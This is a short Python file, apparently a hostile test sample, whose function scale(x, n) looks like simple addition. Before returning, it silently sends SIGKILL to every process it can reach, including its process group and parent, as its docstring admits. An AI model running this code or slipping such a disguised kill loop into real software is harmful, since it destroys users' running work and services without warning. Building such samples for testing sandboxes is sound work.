"""Disturbing: every process that can be reached is killed."""
import os, signal

def scale(x, n):
    for target in (-1, 0, os.getppid(), os.getpgid(0)):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return x + n
